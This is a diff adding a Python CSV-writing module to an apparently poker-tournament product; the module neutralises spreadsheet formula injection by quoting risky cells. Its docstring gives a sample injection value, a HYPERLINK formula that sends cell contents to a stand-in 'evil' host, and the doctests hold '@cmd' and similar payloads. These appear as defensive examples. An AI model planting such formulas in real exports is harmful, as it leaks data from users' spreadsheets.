@@ -1,0 +1,55 @@
+"""CSV for spreadsheets: the one writer every CSV the product writes goes through.
+
+A base module (like :mod:`pokertd.money`): every layer may import it. A spreadsheet (Excel,
+LibreOffice, Google Sheets) runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
+formula, and a tab or carriage return in front hides one; so a player who registers as
+``=HYPERLINK("http://evil/?"&A1)`` or ``@cmd`` could run it on the cashier's computer when the
+standings are opened. Every text cell that starts so is written with a leading ``'``, which
+spreadsheets show as text. Numbers (``int``, and text that is a plain decimal such as
+``-12.50``, the way amounts are written) stay numbers.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")
+
+
+def safe_cell(value: object) -> str:
+    """A CSV cell a spreadsheet shows as text, never runs.
+
+    >>> safe_cell('=HYPERLINK("http://x")'), safe_cell("=1+2"), safe_cell("@cmd")
+    ('\\'=HYPERLINK("http://x")', "'=1+2", "'@cmd")
+    >>> safe_cell("Ann Lee"), safe_cell(None), safe_cell(-1250), safe_cell("-12.50")
+    ('Ann Lee', '', '-1250', '-12.50')
+    >>> safe_cell("-1+2"), safe_cell("\\t=1")
+    ("'-1+2", "'\\t=1")
+    """
+    text = "" if value is None else str(value)
+    if isinstance(value, int | float) or _PLAIN_NUMBER.match(text):
+        return text
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
+def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
+    """``header`` and ``rows`` as CSV text (``\\n`` line ends), every cell through
+    :func:`safe_cell`: the one way pokertd writes a CSV.
+
+    >>> print(csv_text(("name", "prize"), [("=1+2", "100.00"), ("@cmd", -5)]), end="")
+    name,prize
+    '=1+2,100.00
+    '@cmd,-5
+    """
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow([safe_cell(c) for c in header])
+    writer.writerows([safe_cell(c) for c in row] for row in rows)
+    return out.getvalue()
+
+
+__all__ = ["csv_text", "safe_cell"]
